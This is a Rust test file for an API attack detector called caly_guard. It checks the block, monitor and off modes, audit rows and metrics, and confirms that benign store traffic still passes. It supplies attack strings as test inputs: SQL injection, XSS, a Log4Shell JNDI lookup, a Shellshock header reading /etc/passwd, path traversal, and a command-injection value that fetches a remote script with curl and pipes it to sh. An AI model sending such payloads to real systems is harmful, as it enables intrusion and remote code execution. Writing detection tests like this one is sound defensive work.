//! The attack detector in front of the API: `block` answers 403 naming the rule (never the
//! payload) and audits it; `monitor` lets the request through but audits and counts it; `off`
//! does nothing. Realistic store traffic passes.

mod support;

use caly_guard::detector::{AttackClass, Mode};
use serde_json::json;
use support::{Engine, TestApp};

const INJECTION: &str = "asha@example.in' OR '1'='1' --";

async fn app_with(engine: Engine, mode: Mode, overrides: &[(AttackClass, Mode)]) -> TestApp {
    let overrides = overrides.to_vec();
    TestApp::builder(engine)
        .config(move |config| {
            config.detector.mode = mode;
            config.detector.classes = overrides.into_iter().collect();
        })
        .spawn()
        .await
}

/// The detector's audit rows: (event, outcome, details).
async fn events(app: &TestApp) -> Vec<(String, String, String)> {
    let rows = app.server().state.store.audit_events(caly_store::SYSTEM_CHAIN).await.unwrap();
    rows.into_iter()
        .filter(|row| row.event.starts_with("attack."))
        .map(|row| (row.event.into_owned(), row.outcome.into_owned(), row.details))
        .collect()
}

on_both_engines! {
    async fn a_blocked_attack_is_refused_audited_and_counted(engine: Engine) {
        let app = app_with(engine, Mode::Block, &[]).await;
        let login = json!({"email": INJECTION, "password": "whatever it is"});
        let response = app.post_json("/api/v1/auth/login", &login).await;
        let text = response.text().await.unwrap();
        assert!(!text.contains("OR '1'"), "the payload is never echoed: {text}");
        let body: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!((body["status"].as_u64(), body["code"].as_str()), (Some(403), Some("attack_blocked")));
        assert!(body["detail"].as_str().unwrap().contains("rule sqli-"), "{body}");

        let events = events(&app).await;
        assert_eq!(events.len(), 1, "{events:?}");
        let (event, outcome, details) = &events[0];
        assert_eq!((event.as_str(), outcome.as_str()), ("attack.blocked", "denied"));
        let details: serde_json::Value = serde_json::from_str(details).unwrap();
        assert_eq!(details["class"], "sql_injection");
        assert_eq!(details["location"], "body/email");

        let metrics = app.get_authorized("/metrics").await.text().await.unwrap();
        assert!(metrics.contains(r#"caly_attacks_detected_total{class="sql_injection""#), "{metrics}");
    }
}

#[tokio::test]
async fn every_part_of_a_request_is_inspected() {
    let app = app_with(Engine::Sqlite, Mode::Block, &[]).await;
    let client = reqwest::Client::new();
    let cases = [
        client.get(app.url("/api/v1/audit?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
        client.get(app.url("/api/v1/me")).header("x-client-version", "${jndi:ldap://198.51.100.7/a}"),
        client.get(app.url("/api/v1/me")).header("user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
        client.get(app.url("/api/v1/me")).header("cookie", "theme=dark; pref=..%2f..%2f..%2fetc%2fpasswd"),
        client
            .post(app.url("/api/v1/auth/register"))
            .json(&json!({"store_name": "x; curl http://198.51.100.7/x.sh | sh"})),
    ];
    for request in cases {
        let response = request.send().await.unwrap();
        support::problem(response, 403, "attack_blocked").await;
    }
    assert_eq!(events(&app).await.len(), 5);
}

#[tokio::test]
async fn monitor_mode_lets_the_request_through_but_records_it() {
    let app = app_with(Engine::Sqlite, Mode::Block, &[(AttackClass::SqlInjection, Mode::Monitor)]).await;
    let login = json!({"email": INJECTION, "password": "whatever it is"});
    let response = app.post_json("/api/v1/auth/login", &login).await;
    assert_ne!(response.status(), 403, "monitored, not blocked");
    let events = events(&app).await;
    assert_eq!((events[0].0.as_str(), events[0].1.as_str()), ("attack.detected", "allowed"));
    // Other classes still block.
    let response = app.get("/api/v1/audit?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E").await;
    support::problem(response, 403, "attack_blocked").await;
}

#[tokio::test]
async fn off_turns_the_detector_off() {
    let app = app_with(Engine::Sqlite, Mode::Off, &[]).await;
    let login = json!({"email": INJECTION, "password": "whatever it is"});
    assert_ne!(app.post_json("/api/v1/auth/login", &login).await.status(), 403);
    assert!(events(&app).await.is_empty());
}

#[tokio::test]
async fn realistic_store_traffic_passes() {
    let app = app_with(Engine::Sqlite, Mode::Block, &[]).await;
    let registration = json!({
        "email": "mary.dsouza@example.in", "password": "select a different size & drop",
        "name": "Mary D'Souza", "store_name": "D'Souza & Sons <Since 1990>",
        "timezone": "Asia/Kolkata", "language": "hinglish"
    });
    let response = app.post_json("/api/v1/auth/register", &registration).await;
    assert_eq!(response.status(), 201, "{}", response.text().await.unwrap());
    assert!(events(&app).await.is_empty());
}
